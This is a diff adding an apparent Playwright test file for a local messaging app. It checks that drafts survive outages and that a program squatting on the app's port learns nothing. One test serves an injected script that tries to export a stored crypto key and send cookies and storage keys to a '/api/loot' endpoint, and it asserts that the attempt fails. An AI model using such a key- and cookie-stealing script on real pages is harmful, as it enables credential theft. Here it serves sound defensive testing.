@@ -1,0 +1,168 @@
+// The app stops, comes back, is replaced by another program: what was typed stays, and nothing is told
+// to whoever listens at its address meanwhile.
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+
+import { expect, introduce, type Member, test } from "./fixture";
+
+/** A program at the app's address that answers everything and keeps what it hears. */
+class Squatter {
+  readonly heard: { line: string; headers: Record<string, unknown>; body: string }[] = [];
+  #server: Server;
+
+  private constructor(page: string) {
+    this.#server = createServer((request, response) => {
+      let body = "";
+      request.on("data", (bytes: Buffer) => (body += bytes.toString()));
+      request.on("end", () => {
+        this.heard.push({ line: `${request.method} ${request.url}`, headers: request.headers, body });
+        const html = request.method === "GET" && !request.url?.startsWith("/api");
+        response.setHeader("content-type", html ? "text/html" : "application/json");
+        response.end(html ? page : JSON.stringify({ ok: { nonce: "A".repeat(43), proof: "A".repeat(43), page: "A", files: "A", pages: "A" } }));
+      });
+    });
+  }
+
+  static async at(port: number, page = ""): Promise<Squatter> {
+    const squatter = new Squatter(page);
+    await new Promise<void>((done) => squatter.#server.listen(port, "127.0.0.1", done));
+    return squatter;
+  }
+
+  get port(): number {
+    return (this.#server.address() as AddressInfo).port;
+  }
+
+  async stop(): Promise<void> {
+    this.#server.closeAllConnections();
+    await new Promise((done) => this.#server.close(done));
+  }
+}
+
+const port = (member: Member): number => Number(new URL(member.page.url()).port);
+
+test("six tabs and more work, and each hears of everything", async ({ club, member }) => {
+  const anna = await (await member("Anna")).join(club);
+  const boris = await (await member("Boris")).join(club);
+  await introduce(anna, boris);
+  const tabs = [anna.page];
+  while (tabs.length < 9) {
+    const tab = await anna.page.context().newPage();
+    await tab.goto(anna.origin);
+    await expect(tab.getByText("No letters yet")).toBeVisible();
+    tabs.push(tab);
+  }
+  // One goes, one crashes.
+  await tabs[0]?.close();
+  const crash = await tabs[1]?.context().newCDPSession(tabs[1]);
+  void crash?.send("Page.crash").catch(() => undefined);
+  await boris.run("send", "--to", anna.alias, "--subject", "To every tab", "Hello");
+  for (const tab of tabs.slice(2)) await expect(tab.getByRole("link", { name: /To every tab/ })).toBeVisible();
+  anna.page = tabs[2] ?? anna.page;
+});
+
+test("who types while the app is away loses nothing, and the page goes on by itself", async ({ club, member }) => {
+  const anna = await (await member("Anna")).join(club);
+  anna.forgive(/ERR_CONNECTION_REFUSED|ERR_CONNECTION_RESET|ERR_INCOMPLETE_CHUNKED|ERR_EMPTY_RESPONSE|status of 401/);
+  const { page } = anna;
+  await page.keyboard.press("c");
+  await page.getByLabel("Subject").fill("Before");
+  await page.getByRole("textbox", { name: "Letter" }).fill("Written before. ");
+  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
+  await anna.stopApp();
+  await expect(page.getByRole("alert").first()).toContainText("isn’t answering");
+  await page.getByRole("textbox", { name: "Letter" }).focus();
+  await page.keyboard.press("Control+End");
+  await page.keyboard.type("Written while it was away.");
+  await expect(page.getByText("Not saved yet")).toBeVisible();
+  await expect(page.getByRole("textbox", { name: "Letter" })).toHaveValue("Written before. Written while it was away.");
+
+  await anna.startApp();
+  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
+  await expect(page.getByRole("textbox", { name: "Letter" })).toHaveValue("Written before. Written while it was away.");
+  const drafts = (await anna.run("drafts")) as { text: string }[];
+  expect(drafts.map((draft) => draft.text)).toEqual(["Written before. Written while it was away."]);
+
+  // A bookmark works, until the browser is shut out.
+  const bookmark = await page.context().newPage();
+  await bookmark.goto(anna.origin);
+  await expect(bookmark.getByRole("link", { name: /^Drafts/ })).toBeVisible();
+  const browsers = (await anna.run("browsers")) as { id: number }[];
+  expect(browsers).toHaveLength(1);
+  await anna.run("browsers", "--revoke", String(browsers[0]?.id));
+  await bookmark.reload();
+  await expect(bookmark.getByRole("heading", { name: "This browser was not let in" })).toBeVisible();
+  await expect(page.getByRole("alert").first()).toContainText("does not know this browser");
+  // The next opening lets it in again, and the page that was left open goes on.
+  const { url } = (await anna.run("url")) as { url: string };
+  await bookmark.goto(url);
+  await expect(bookmark.getByRole("link", { name: /^Drafts/ })).toBeVisible();
+  expect(bookmark.url()).not.toContain("token");
+  await expect(page.getByRole("alert")).toHaveCount(0);
+});
+
+test("a program at the app's address is told nothing, and can use nothing of it later", async ({ club, member }) => {
+  const anna = await (await member("Anna")).join(club);
+  anna.forgive(/ERR_|status of 401/);
+  const { page } = anna;
+  await page.keyboard.press("c");
+  await page.getByLabel("Subject").fill("Secret subject");
+  await page.getByRole("textbox", { name: "Letter" }).fill("Secret words");
+  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
+  await anna.stopApp();
+  await expect(page.getByRole("alert").first()).toContainText("isn’t answering");
+  const squatter = await Squatter.at(port(anna));
+  await page.getByRole("textbox", { name: "Letter" }).fill("More secret words");
+  await expect(page.getByRole("alert").first()).toContainText("Another program answers");
+  await expect(page.getByRole("textbox", { name: "Letter" })).toHaveValue("More secret words");
+  const { heard } = squatter;
+  expect(new Set(heard.map(({ line }) => line))).toEqual(new Set(["POST /api/browser/hello"]));
+  for (const { headers, body } of heard) {
+    expect(Object.keys(JSON.parse(body) as object).sort()).toEqual(["browser", "nonce"]);
+    expect(headers["cookie"]).toBeUndefined();
+    expect(headers["authorization"]).toBeUndefined();
+    expect(JSON.stringify(headers)).not.toContain("ecret");
+  }
+  await squatter.stop();
+
+  // A page of its own at our address can't read the key out of the browser.
+  const thief = await Squatter.at(
+    port(anna),
+    `<script>
+      const opening = indexedDB.open("mnm", 1);
+      opening.onsuccess = () => {
+        const reading = opening.result.transaction("identity").objectStore("identity").get("me");
+        reading.onsuccess = () => crypto.subtle.exportKey("raw", reading.result.key).then(() => "taken", (error) => error.name)
+          .then((how) => fetch("/api/loot", { method: "POST", body: how + document.cookie + Object.keys(localStorage).filter((key) => !key.startsWith("mnm.")) }));
+      };
+    </script>`,
+  );
+  const trap = await page.context().newPage();
+  await trap.goto(anna.origin);
+  await expect.poll(() => thief.heard.find(({ line }) => line.endsWith("/api/loot"))?.body).toBe("InvalidAccessError");
+  await trap.close();
+  await thief.stop();
+
+  await anna.startApp();
+  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
+  await expect(page.getByRole("alert")).toHaveCount(0);
+  for (const { line, body } of heard) {
+    const [, path] = line.split(" ");
+    const again = await fetch(`${anna.origin}${path}`, { method: "POST", headers: { origin: anna.origin, "content-type": "application/json" }, body });
+    // The app proves itself to whoever asks; nothing more comes of it.
+    expect(Object.keys(((await again.json()) as { ok: object }).ok).sort()).toEqual(["nonce", "proof"]);
+  }
+});
+
+test("another port of this machine gets nothing from the browser", async ({ club, member }) => {
+  const anna = await (await member("Anna")).join(club);
+  await expect(anna.page.getByText("No letters yet")).toBeVisible();
+  const neighbour = await Squatter.at(0, "<p>hello</p>");
+  const elsewhere = `http://127.0.0.1:${neighbour.port}`;
+  anna.allow(elsewhere);
+  const tab = await anna.page.context().newPage();
+  await tab.goto(elsewhere);
+  expect(neighbour.heard.length).toBeGreaterThan(0);
+  for (const { headers } of neighbour.heard) expect(headers["cookie"]).toBeUndefined();
+  await neighbour.stop();
+});
